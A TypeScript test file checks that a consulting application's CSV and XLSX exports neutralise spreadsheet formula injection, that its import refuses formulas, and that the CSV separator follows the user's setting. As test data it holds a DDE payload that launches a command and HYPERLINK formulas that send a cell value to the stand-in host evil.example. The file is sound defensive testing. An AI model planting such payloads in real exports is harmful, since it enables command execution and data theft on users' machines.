/**
 * Finding 4 of the second review: the norm-set CSV export wrote `=cmd|' /C calc'!A0` as is and
 * its import kept `=HYPERLINK(…)`; neutralisation looked only at the first character; and the
 * CSV separator followed the engagement's language instead of the consultant's spreadsheet.
 */
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { FileDownload } from '@shared/ipc/files';
import { csvTextField, neutraliseCell } from '@shared/import/neutralise';
import { serializeNormCsv, type NormEntry } from '@shared/content';
import { createSampleEngagement } from '@main/core/sample/sample-engagement';
import { testDispatcher } from '@test/support/dispatcher';
import { tempWorkspace } from '@test/support/temp-workspace';

const DDE = "=cmd|' /C calc'!A0";
/** What a spreadsheet could take for a formula: the start after what it skips. */
const FORMULA = /^[\s\p{Cc}\p{Cf}"]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u;

function setUp() {
  const workspace = tempWorkspace();
  return { workspace, ...testDispatcher(workspace) };
}

/** Every cell of a CSV text as a spreadsheet set to `delimiter` would split it. */
function cellsAs(text: string, delimiter: string): string[] {
  return Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { delimiter }).data.flat();
}

const decode = (file: FileDownload) => new TextDecoder().decode(file.bytes);

describe('formula text is neutralised wherever a spreadsheet could read it', () => {
  it.each([
    [' =1+1', "' =1+1"],
    ['\u00A0=HYPERLINK("http://evil.example")', '\'\u00A0=HYPERLINK("http://evil.example")'],
    ['\u200B@SUM(A1)', "'\u200B@SUM(A1)"],
    ['\u0000+1', "'\u0000+1"],
    ['"=1+1"', '\'"=1+1"'],
    [DDE, `'${DDE}`],
    ['＠SUM(1)', "'＠SUM(1)"],
  ])('at the start, after what a spreadsheet skips: %j', (input, output) => {
    expect(neutraliseCell(input)).toBe(output);
  });

  it('in a CSV also after every separator and line break', () => {
    expect(neutraliseCell(`Prima,${DDE}`)).toBe(`Prima,'${DDE}`);
    expect(neutraliseCell(`Prima; @SUM(1)`)).toBe(`Prima; '@SUM(1)`);
    expect(neutraliseCell('Goed\n- levertijd\n-prijs')).toBe("Goed\n'- levertijd\n'-prijs");
    expect(neutraliseCell('3 = prima, 4 - goed')).toBe('3 = prima, 4 - goed');
  });

  it('in an XLSX text cell only at the start: lists in a quote stay as typed', () => {
    expect(neutraliseCell('Goed\n- levertijd', 'xlsx')).toBe('Goed\n- levertijd');
    expect(neutraliseCell(` ${DDE}`, 'xlsx')).toBe(`' ${DDE}`);
  });

  it('a CSV field with any separator is quoted, whichever separator the file uses', () => {
    expect(csvTextField(`x,${DDE}`)).toBe(`"x,'${DDE}"`);
    expect(csvTextField('a;b')).toBe('"a;b"');
  });

  it('the norm-set CSV writer neutralises a DDE dimension', () => {
    const entry: NormEntry = {
      dimension: DDE,
      mean: 3,
      sd: 1,
      n: 10,
      p10: 2,
      p25: 2.5,
      p50: 3,
      p75: 3.5,
      p90: 4,
    };
    for (const delimiter of [',', ';'] as const) {
      const text = serializeNormCsv([entry], { delimiter });
      for (const reader of [',', ';']) {
        for (const cell of cellsAs(text, reader)) expect(cell, reader).not.toMatch(FORMULA);
      }
    }
  });
});

describe('norm sets', () => {
  it('an exported norm set never carries a formula, through the handlers', async () => {
    const { call } = setUp();
    const normSet = {
      id: 'gevaarlijk',
      name: { nl: 'Gevaarlijk', en: 'Dangerous' },
      illustrative: false,
      instrument: 'klantgerichtheidsscan',
      entries: [
        { dimension: DDE, mean: 3, sd: 1, n: 10, p10: 2, p25: 2.5, p50: 3, p75: 3.5, p90: 4 },
      ],
    };
    const { id } = await call('norms.import', {
      fileName: 'gevaarlijk.json',
      bytes: new TextEncoder().encode(JSON.stringify(normSet)),
    });
    const file = await call('norms.export', { id, format: 'csv' });
    const text = decode(file);
    expect(text).toContain(`'${DDE}`);
    for (const reader of [',', ';']) {
      for (const cell of cellsAs(text, reader)) expect(cell).not.toMatch(FORMULA);
    }
  });

  it('the CSV import keeps values as data and refuses formulas, naming row and column', async () => {
    const { dispatch, workspace } = setUp();
    const before = workspace.benchmarks.listNormSets().length;
    const csv =
      'dimension,mean,sd,n,p10,p25,p50,p75,p90\r\n' +
      'KK,3.1,0.6,120,2.3,2.7,3.1,3.5,3.9\r\n' +
      '"=HYPERLINK(""http://evil.example/?"" & A1, ""SW"")",3.1,0.6,120,2.3,2.7,3.1,3.5,3.9\r\n';
    const response = await dispatch('norms.import', {
      fileName: 'norm.csv',
      bytes: new TextEncoder().encode(csv),
    });
    expect(response).toMatchObject({
      ok: false,
      error: {
        key: 'norms.invalidFile',
        issues: [{ path: '3.dimension', message: 'norms.csv.formula', params: { row: 3 } }],
      },
    });
    expect(workspace.benchmarks.listNormSets()).toHaveLength(before);
  });
});

describe('the CSV separator', () => {
  async function sample() {
    const context = setUp();
    const engagement = createSampleEngagement(context.workspace, 'nl');
    const [instrument] = context.workspace.instruments.forEngagement(engagement.id);
    return { ...context, engagementId: engagement.id, instrumentId: instrument!.id };
  }

  it('is the consultant’s choice, remembered, not the engagement’s language', async () => {
    const { call, engagementId, instrumentId, workspace } = await sample();
    expect(workspace.engagements.get(engagementId).language).toBe('nl');
    await call('settings.setCsvSeparator', { separator: ',' });
    const responses = decode(
      await call('exports.responses', { engagementId, instrumentId, format: 'csv' }),
    );
    const quotes = decode(
      await call('interviews.export', { engagementId, table: 'quotes', format: 'csv' }),
    );
    const norms = decode(
      await call('norms.export', {
        id: workspace.benchmarks.listNormSets()[0]!.id,
        format: 'csv',
      }),
    );
    for (const text of [responses, quotes, norms]) {
      const header = text.replace(/^\uFEFF/, '').split('\r\n')[0]!;
      expect(header).toContain(',');
      expect(header).not.toContain(';');
    }
    // Decimal commas come with the semicolon, points with the comma.
    expect(norms).toMatch(/\d\.\d/);
  });

  it('can be picked per export, which wins over the remembered one', async () => {
    const { call, engagementId, instrumentId } = await sample();
    await call('settings.setCsvSeparator', { separator: ',' });
    const text = decode(
      await call('exports.responses', {
        engagementId,
        instrumentId,
        format: 'csv',
        separator: ';',
      }),
    );
    expect(text.replace(/^\uFEFF/, '').split('\r\n')[0]).toMatch(/^[^,]*;/);
  });

  it('an answer with a formula behind a comma stays text in a reader set to commas', async () => {
    const { call, workspace, engagementId, instrumentId } = await sample();
    const { instrument } = workspace.instruments.get(instrumentId);
    const open = instrument.items.find((item) => item.kind === 'open')!;
    const group = workspace.engagements.get(engagementId).groups[0]!;
    await call('respondents.save', {
      engagementId,
      instrumentId,
      code: 'X1',
      groupId: group.id,
      role: '',
      answers: { [open.code]: `Prima,${DDE}\n@SUM(1+1)` },
    });
    const text = decode(
      await call('exports.responses', {
        engagementId,
        instrumentId,
        format: 'csv',
        separator: ';',
      }),
    );
    for (const reader of [';', ',', '\t']) {
      for (const cell of cellsAs(text, reader)) expect(cell, reader).not.toMatch(FORMULA);
    }
  });
});
